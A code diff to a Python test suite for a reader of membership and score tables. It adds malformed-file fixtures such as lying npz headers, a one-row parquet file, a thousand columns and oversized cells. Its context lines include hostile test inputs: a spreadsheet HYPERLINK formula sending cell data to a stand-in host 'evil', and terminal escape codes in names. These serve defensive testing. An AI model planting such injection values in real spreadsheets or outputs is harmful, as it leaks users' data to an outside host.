@@ -4,11 +4,14 @@ import csv
 import json
 import os
 import pickle
+import zipfile
 from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Any
 
 import numpy as np
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 import torch
 
@@ -114,7 +117,28 @@ def lying_header() -> Path:
     return Path("lies.npy")
 
 
+def lying_headers() -> Path:
+    """As `lying_header`, of two arrays in one file."""
+    data = lying_header().read_bytes()
+    with zipfile.ZipFile("lies.npz", "w") as archive:
+        for name in ("scores", "member"):
+            archive.writestr(f"{name}.npy", data)
+    return Path("lies.npz")
+
+
+def one_row() -> Path:
+    columns = {"member": [0.0], "score": [0.0]}
+    pq.write_table(pa.table(columns), "one.parquet")
+    return Path("one.parquet")
+
+
+def many_columns() -> Path:
+    columns = ["member", "score", *(f"c{at}" for at in range(1_000))]
+    return table(columns, lambda at: [MEMBERS[at], plain(at), *[0] * 1_000])
+
+
 READ = {
+    "a thousand columns": many_columns,
     "a page as name": named(lambda at: f"{PAGE}{at}"),
     "a formula as name": named(lambda at: f'=HYPERLINK("http://evil/?"&A{at})'),
     "terminal codes as name": named(lambda at: f"{STEERS}{at}\r\nrow"),
@@ -124,6 +148,9 @@ READ = {
 }
 REFUSED = {
     "a cell of 20 MB": scored(lambda at: "1" * 20_000_000 if at == 0 else plain(at)),
+    "a name of 20 MB": named(lambda at: "A" * 20_000_000 if at == 0 else at),
+    "one row": one_row,
+    "headers that lie": lying_headers,
     "a formula as score": scored(lambda at: "=1+1" if at == 3 else plain(at)),
     "digits of another script": scored(lambda at: f"{SCORES[at]:.4f}".translate(ARABIC)),
     "underscores": scored(lambda at: f"{abs(SCORES[at]) * 1000:.0f}_000"),
